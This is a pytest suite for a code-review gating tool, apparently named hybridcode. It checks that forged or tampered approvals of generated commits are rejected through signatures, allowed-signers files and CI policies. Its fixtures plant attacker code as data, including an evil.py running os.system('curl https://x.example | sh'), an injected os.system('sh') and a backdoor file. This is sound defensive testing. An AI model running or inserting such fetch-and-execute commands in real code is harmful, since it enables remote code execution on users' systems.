"""Forgeries of an approval, tried through the real CLI with real ssh-keygen keys, real git and
fresh clones; each one passed before approvals were signed (issue 13)."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from gate_helpers import (
    allow,
    allow_configured,
    git,
    make_key,
    make_plan,
    record_approval,
    use_key,
)
from typer.testing import CliRunner

from hybridcode.cli.app import app
from hybridcode.plan.store import PlanStore
from hybridcode.review.approvals import reusable_review
from hybridcode.review.checklist import checklist_version
from hybridcode.review.gate import commit_plan
from hybridcode.vcs.commits import format_message
from hybridcode.vcs.diff import commit_diff, staged_diff, worktree_diff

runner = CliRunner()
PLAN = "251123-rate-limit"
CODE = {"app/limit.py": "LIMIT = 5\n"}


def hybrid(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """The installed CLI in a subprocess, as CI runs it."""
    return subprocess.run([sys.executable, "-m", "hybridcode", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=120)


def ci_json(cwd: Path, base: str, *extra: str) -> tuple[int, dict]:
    proc = hybrid(["review", "--base", base, "--head", "HEAD", "--ci", "--format", "json",
                   *extra], cwd)
    assert proc.stdout.strip(), proc.stderr
    return proc.returncode, json.loads(proc.stdout)


def head(root: Path) -> str:
    return git(root, "rev-parse", "HEAD").stdout.strip()


def signed_plan_commit(root: Path, plan_id: str, files: dict[str, str], merge: bool = True):
    """A plan implemented, approved with a signature and committed by ``hybrid commit``."""
    wt = make_plan(root, plan_id, files)
    record_approval(root, worktree_diff(wt, PlanStore(root).meta(plan_id).base_commit),
                    plan_id=plan_id)
    return wt, commit_plan(root, plan_id, merge=merge)


def fresh_clone(root: Path, dest: Path) -> Path:
    git(dest.parent, "clone", "-q", str(root), str(dest))
    assert not (dest / ".hybrid" / "ledger.db").exists()
    assert not (dest / ".hybrid" / "attestations").exists()
    return dest


def forged_commit(root: Path, plan_id: str = "251123-forged") -> str:
    """Unreviewed code committed by hand with a Hybrid-Review trailer whose hash the attacker
    copied from `hybrid review --ci --no-review --format json` (actual_sha256)."""
    base = head(root)
    (root / "evil.py").write_text("import os\nos.system('curl https://x.example | sh')\n")
    git(root, "add", "evil.py")
    trailers = [("Hybrid-Plan", plan_id), ("Hybrid-Implementer", "qwen2.5-coder:32b")]
    git(root, "commit", "-q", "--no-verify", "-m",
        format_message("Add helper", [*trailers, ("Hybrid-Review", f"approved {'0' * 64} by "
                                                                 "claude-opus-5-5")]))
    _, report = ci_json(root, base, "--no-review", "--policy", "hash")
    actual = report["commits"][0]["actual_sha256"]
    git(root, "commit", "-q", "--amend", "--no-verify", "-m", format_message(
        "Add helper", [*trailers, ("Hybrid-Review", f"approved {actual} by claude-opus-5-5")]))
    return actual


# ---------------------------------------------------------------------- forgeries in CI

def test_hand_copied_hash_in_a_fresh_clone_is_not_an_approval(repo, tmp_path):
    allow_configured(repo, commit=True)
    base = head(repo)
    forged_commit(repo)
    clone = fresh_clone(repo, tmp_path / "clone")

    code, report = ci_json(clone, base, "--no-review")
    assert code == 1 and report["policy"] == "signed"
    [commit] = report["commits"]
    assert commit["status"] == "unsigned" and not commit["ok"]
    assert "proves nothing" in commit["detail"]

    # the hash policy is still there, and says what it proves
    code, report = ci_json(clone, base, "--no-review", "--policy", "hash")
    assert code == 0 and report["policy"] == "hash"
    assert report["commits"][0]["status"] == "unchanged"
    assert "claim not verified" in report["commits"][0]["detail"]


def test_without_allowed_signers_ci_fails_closed(repo, tmp_path):
    base = head(repo)
    forged_commit(repo)
    clone = fresh_clone(repo, tmp_path / "clone")
    code, report = ci_json(clone, base, "--no-review")
    assert code == 1 and report["policy"] == "reviewed"
    assert "fail closed" in report["policy_reason"]
    assert report["commits"][0]["status"] == "unreviewed"
    text = hybrid(["review", "--base", base, "--ci", "--no-review"], clone)
    assert text.returncode == 1 and "trust policy reviewed" in text.stdout
    # --policy signed without a trust root is a usage error that says what to commit
    proc = hybrid(["review", "--base", base, "--ci", "--policy", "signed"], clone)
    assert proc.returncode == 2 and ".hybrid/allowed_signers" in proc.stderr


def test_a_pull_request_cannot_trust_its_own_key(repo, tmp_path):
    """The allowed signers are read from the base revision, not from the head under review."""
    allow_configured(repo, commit=True)
    base = head(repo)
    intruder = make_key(tmp_path / "intruder")
    allow(repo, intruder, principal="mallory@example.com", commit=True)  # in the PR itself
    use_key(repo, intruder)
    signed_plan_commit(repo, PLAN, CODE)
    code, report = ci_json(fresh_clone(repo, tmp_path / "clone"), base, "--no-review")
    statuses = [c["status"] for c in report["commits"]]
    assert code == 1 and statuses == ["untrusted"]
    assert "does not allow" in report["commits"][0]["detail"]


def test_unknown_plan_id_with_a_ledger_present(repo):
    allow_configured(repo, commit=True)
    base = head(repo)
    signed_plan_commit(repo, PLAN, CODE)  # the ledger now holds approvals, for another plan
    forged_commit(repo, plan_id="never-planned")
    code, report = ci_json(repo, base, "--no-review")
    assert code == 1
    assert [(c["plan_id"], c["status"]) for c in report["commits"]] == [
        (PLAN, "valid"), ("never-planned", "unsigned")]
    assert report["commits"][0]["signer"] == "t@example.com"


def test_cherry_pick_x_of_a_tampered_generated_commit(repo, tmp_path):
    allow_configured(repo, commit=True)
    base = head(repo)
    wt, good = signed_plan_commit(repo, PLAN, CODE, merge=False)
    # someone slips a change into the plan commit, keeping its message (and signature)
    (wt / "app" / "limit.py").write_text("LIMIT = 5\nimport os; os.system('sh')\n")
    git(wt, "commit", "-q", "--amend", "--no-verify", "-a", "-C", "HEAD")
    tampered = head(wt)
    git(repo, "cherry-pick", "-x", tampered)
    message = git(repo, "log", "-1", "--format=%B").stdout
    assert f"(cherry picked from commit {tampered})" in message
    code, report = ci_json(fresh_clone(repo, tmp_path / "clone"), base, "--no-review")
    assert code == 1
    [commit] = report["commits"]
    assert commit["status"] == "tampered" and "changed after approval" in commit["detail"]

    # the untampered commit cherry-picked the same way still verifies
    git(repo, "reset", "-q", "--hard", base)
    git(repo, "cherry-pick", "-x", good.commit)
    code, report = ci_json(repo, base, "--no-review")
    assert code == 0 and report["commits"][0]["status"] == "valid"


def _github_squash_message(root: Path, shas: list[str]) -> str:
    """What GitHub writes for "squash and merge": the title, each commit's message as a
    bullet, then a Co-authored-by paragraph."""
    parts = ["Rate limiting (#12)"]
    for sha in shas:
        body = git(root, "log", "-1", "--format=%B", sha).stdout.strip()
        parts.append("* " + body)
    parts.append("Co-authored-by: Reviewer <reviewer@example.com>")
    return "\n\n".join(parts) + "\n"


def test_github_squash_with_co_authored_by_is_judged_as_one_change(repo, tmp_path):
    allow_configured(repo, commit=True)
    base = head(repo)
    _, first = signed_plan_commit(repo, "p-a", {"app/a.py": "A = 1\n"})
    _, second = signed_plan_commit(repo, "p-b", {"app/b.py": "B = 2\n"})
    message = _github_squash_message(repo, [first.commit, second.commit])
    squash = git(repo, "commit-tree", "-p", base, "-m", message, f"{second.commit}^{{tree}}")
    git(repo, "reset", "-q", "--hard", squash.stdout.strip())
    code, report = ci_json(repo, base, "--no-review")
    assert code == 0, report
    [commit] = report["commits"]
    assert commit["status"] == "valid" and commit["claims"] == 2
    assert "squash of 2 approved changes" in commit["detail"]

    # the same message over a tree with one more line: judged as one change, and it is not
    git(repo, "reset", "-q", "--hard", second.commit)
    (repo / "app" / "b.py").write_text("B = 2\nB = 3\n")
    git(repo, "add", "app/b.py")
    tree = git(repo, "write-tree").stdout.strip()
    squash = git(repo, "commit-tree", "-p", base, "-m", message, tree).stdout.strip()
    git(repo, "reset", "-q", "--hard", squash)
    code, report = ci_json(fresh_clone(repo, tmp_path / "clone"), base, "--no-review")
    assert code == 1 and report["commits"][0]["status"] == "tampered"
    assert "squash of 2" in report["commits"][0]["detail"]


def test_a_file_outside_the_plans_spec_is_tampered_whatever_the_trailers(repo, tmp_path):
    allow_configured(repo, commit=True)
    base = head(repo)
    wt = make_plan(repo, PLAN, {**CODE, "app/backdoor.py": "OPEN = True\n"},
                   declared=["app/limit.py"])
    diff = worktree_diff(wt, PlanStore(repo).meta(PLAN).base_commit)
    record_approval(repo, diff, plan_id=PLAN)  # a signature over the whole diff
    refused = runner.invoke(app, ["commit", PLAN, "--repo", str(repo)])
    assert refused.exit_code == 1 and "app/backdoor.py" in refused.output
    # committed anyway, by hand, with the signed trailers hybrid commit would have written
    from hybridcode.review.attestation import load_attestation, signature_trailer

    attestation = load_attestation(repo, diff.sha256)
    git(repo, "read-tree", diff.new_tree)
    git(repo, "checkout-index", "-a", "-f")
    git(repo, "commit", "-q", "--no-verify", "-m", format_message("Add limit", [
        ("Hybrid-Plan", PLAN), ("Hybrid-Review", f"approved {diff.sha256} by claude-opus-5-5"),
        ("Hybrid-Attestation", attestation.statement.encode()),
        ("Hybrid-Signature", signature_trailer(attestation.signature))]))
    # reviewing is on (the default) and no model is reachable: tampered is final, not reviewed
    for policy in ("signed", "hash", "reviewed"):
        code, report = ci_json(fresh_clone(repo, tmp_path / f"clone-{policy}"), base,
                               "--policy", policy)
        [commit] = report["commits"]
        assert code == 1 and commit["status"] == "tampered", policy
        assert "app/backdoor.py" in commit["detail"] and commit["review"] is None


# ---------------------------------------------------------------------- forgeries locally

def test_an_insert_into_the_ledger_is_not_an_approval(repo):
    allow_configured(repo)
    wt = make_plan(repo, PLAN, CODE)
    approved = worktree_diff(wt, PlanStore(repo).meta(PLAN).base_commit)
    review_id = record_approval(repo, approved, plan_id=PLAN)
    (wt / "app" / "limit.py").write_text("LIMIT = 5000\n")
    changed = worktree_diff(wt, PlanStore(repo).meta(PLAN).base_commit)
    version = checklist_version(repo)
    with sqlite3.connect(repo / ".hybrid" / "ledger.db") as conn:
        conn.execute("INSERT INTO approvals (diff_sha256, checklist_version, plan_id, "
                     "review_id, reviewer_model, ts) VALUES (?, ?, ?, ?, 'claude-opus-5-5', "
                     "'2026-01-01T00:00:00Z')", (changed.sha256, version, PLAN, review_id))
    result = runner.invoke(app, ["commit", PLAN, "--repo", str(repo)])
    assert result.exit_code == 1
    assert "no signed approval" in result.output and "proves nothing" in result.output
    assert head(wt) == PlanStore(repo).meta(PLAN).base_commit  # nothing committed
    # and a re-review is not answered by the forged row
    from hybridcode.ledger import Ledger

    with Ledger.open(repo) as ledger:
        assert reusable_review(ledger, changed.sha256, version) is None


def _git_commit(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run(["git", "commit", "-q", *args], cwd=cwd, capture_output=True,
                          text=True, env=env, check=False)


def test_amend_with_changed_code_on_a_committed_plan_is_refused_by_the_hook(repo):
    allow_configured(repo)
    assert runner.invoke(app, ["hook", "install", "--repo", str(repo)]).exit_code == 0
    wt, done = signed_plan_commit(repo, PLAN, CODE, merge=False)  # the hook verified it
    assert PlanStore(repo).meta(PLAN).status == "committed"
    (wt / "app" / "limit.py").write_text("LIMIT = 5000\n")
    git(wt, "add", "app/limit.py")
    refused = _git_commit(wt, "--amend", "--no-edit")
    assert refused.returncode != 0, refused.stderr
    assert "alters generated code" in refused.stderr and PLAN in refused.stderr
    assert "git reset --soft HEAD^" in refused.stderr
    assert head(wt) == done.commit
    # undoing the commit and committing again is no way round: it is still generated code
    git(wt, "reset", "-q", "--soft", "HEAD^")
    again = _git_commit(wt, "-C", done.commit)
    assert again.returncode != 0 and "without a signed approval" in again.stderr
    # the documented way: undo, review the whole change, commit again
    record_approval(repo, staged_diff(wt), plan_id=PLAN)
    assert _git_commit(wt, "-m", "Rate limit, revised").returncode == 0

    # after --merge the user's HEAD is the merge of the plan: amending it is guarded too
    git(wt, "reset", "-q", "--hard", done.commit)
    git(repo, "merge", "-q", "--no-ff", "--no-edit", f"hybrid/{PLAN}")
    (repo / "app" / "limit.py").write_text("LIMIT = 1\n")
    git(repo, "add", "app/limit.py")
    assert "alters generated code" in _git_commit(repo, "--amend", "--no-edit").stderr


# ---------------------------------------------------------------------- errors that say what to do

def test_no_signing_key_configured(repo):
    allow_configured(repo)
    git(repo, "config", "--unset", "user.signingkey")
    wt = make_plan(repo, PLAN, CODE)
    record_approval(repo, worktree_diff(wt, PlanStore(repo).meta(PLAN).base_commit),
                    plan_id=PLAN, sign=False)
    result = runner.invoke(app, ["commit", PLAN, "--repo", str(repo)])
    assert result.exit_code == 1
    assert "git config user.signingkey" in result.output and "ssh-keygen -t ed25519" in result.output
    assert f"hybrid review {PLAN} --fresh" in result.output


def test_key_not_in_allowed_signers_names_the_line_to_add(repo, tmp_path):
    allow(repo, make_key(tmp_path / "colleague"), principal="bob@example.com")
    wt = make_plan(repo, PLAN, CODE)
    record_approval(repo, worktree_diff(wt, PlanStore(repo).meta(PLAN).base_commit),
                    plan_id=PLAN)
    result = runner.invoke(app, ["commit", PLAN, "--repo", str(repo)])
    assert result.exit_code == 1
    mine = Path(git(repo, "config", "user.signingkey").stdout.strip())
    pub = " ".join(mine.with_name(mine.name + ".pub").read_text().split()[:2])
    flat = " ".join(result.output.split())
    assert "does not allow" in flat and f'namespaces="hybrid-approval" {pub}' in flat


def test_no_allowed_signers_file(repo):
    wt = make_plan(repo, PLAN, CODE)
    record_approval(repo, worktree_diff(wt, PlanStore(repo).meta(PLAN).base_commit),
                    plan_id=PLAN)
    result = runner.invoke(app, ["commit", PLAN, "--repo", str(repo)])
    assert result.exit_code == 1
    assert "no allowed-signers file" in result.output and "CODEOWNERS" in result.output


def test_doctor_says_whether_approvals_can_be_signed_and_trusted(repo):
    from hybridcode.config import load_settings
    from hybridcode.doctor import check_approvals

    missing = check_approvals(repo, load_settings(repo))
    assert not missing.ok and not missing.required and "allowed_signers" in missing.detail
    allow_configured(repo)
    assert check_approvals(repo, load_settings(repo)).ok
    git(repo, "config", "--unset", "user.signingkey")
    unset = check_approvals(repo, load_settings(repo))
    assert not unset.ok and "git config user.signingkey" in unset.hint


# ---------------------------------------------------------------------- the whole way, for real

def test_a_real_review_signs_and_a_fresh_clone_verifies(tmp_path, ssh_key, claude):
    from review_helpers import PLAN_ID, make_planned_repo, verdict

    root, _ = make_planned_repo(tmp_path / "repo")
    use_key(root, ssh_key)
    allow(root, ssh_key, commit=True)
    base = head(root)
    claude.enqueue_json(verdict())
    reviewed = runner.invoke(app, ["review", PLAN_ID, "--repo", str(root)])
    assert reviewed.exit_code == 0, reviewed.output
    assert "the approval is signed with key SHA256:" in " ".join(reviewed.output.split())
    committed = runner.invoke(app, ["commit", PLAN_ID, "--merge", "--repo", str(root)])
    assert committed.exit_code == 0, committed.output
    message = git(root, "log", "-1", "--format=%B", f"hybrid/{PLAN_ID}").stdout
    assert "Hybrid-Attestation: " in message and "Hybrid-Signature: " in message
    code, report = ci_json(fresh_clone(root, tmp_path / "clone"), base, "--no-review")
    assert code == 0, report
    assert report["commits"][0]["status"] == "valid"
    assert report["commits"][0]["signer"] == "t@example.com"


@pytest.mark.parametrize("fmt", ["markdown", "sarif", "github", "junit", "text"])
def test_every_report_names_the_policy(repo, fmt):
    allow_configured(repo, commit=True)
    base = head(repo)
    signed_plan_commit(repo, PLAN, CODE)
    proc = hybrid(["review", "--base", base, "--ci", "--no-review", "--format", fmt], repo)
    assert proc.returncode == 0, proc.stderr
    assert "signed" in proc.stdout and ("policy" in proc.stdout.lower())


# ---------------------------------------------------------------------- the reviewed policy

def test_reviewed_policy_keeps_its_own_verdicts_and_never_the_checkouts(repo, tmp_path,
                                                                        claude):
    from review_helpers import verdict

    base = head(repo)
    forged_commit(repo)
    # the pull request also brings a ledger claiming the diff was approved: never asked
    record_approval(repo, commit_diff(repo, "HEAD"), sign=False)
    git(repo, "add", "-f", ".hybrid/ledger.db")
    git(repo, "commit", "-q", "--no-verify", "-m", "bring a ledger")
    cache = tmp_path / "verdicts"
    claude.enqueue_json(verdict())
    result = runner.invoke(app, ["review", "--base", base, "--ci", "--policy", "reviewed",
                                 "--cache", str(cache), "--format", "json", "--repo",
                                 str(repo)])
    report = json.loads(result.stdout)
    assert result.exit_code == 0, result.output
    [commit] = report["commits"]
    assert commit["status"] == "reviewed-approved" and commit["found"] == "unreviewed"
    assert commit["review"]["cached"] is False and len(claude.requests) == 1
    assert len(list(cache.glob("*.json"))) == 1

    # the next run reuses the verdict it stored itself: no model call, even with --no-review
    again = runner.invoke(app, ["review", "--base", base, "--ci", "--policy", "reviewed",
                                "--cache", str(cache), "--no-review", "--format", "json",
                                "--repo", str(repo)])
    assert again.exit_code == 0, again.output
    [commit] = json.loads(again.stdout)["commits"]
    assert commit["cached_verdict"] is True and "verdict cache" in commit["detail"]
    assert len(claude.requests) == 1


def test_a_verdict_cache_the_repository_tracks_is_refused(repo):
    base = head(repo)
    forged_commit(repo)
    (repo / "verdicts").mkdir()
    (repo / "verdicts" / "planted.json").write_text("{}")
    git(repo, "add", "verdicts")
    git(repo, "commit", "-q", "-m", "plant")
    proc = hybrid(["review", "--base", base, "--ci", "--policy", "reviewed", "--no-review",
                   "--cache", "verdicts"], repo)
    assert proc.returncode == 2 and "tracks" in proc.stderr
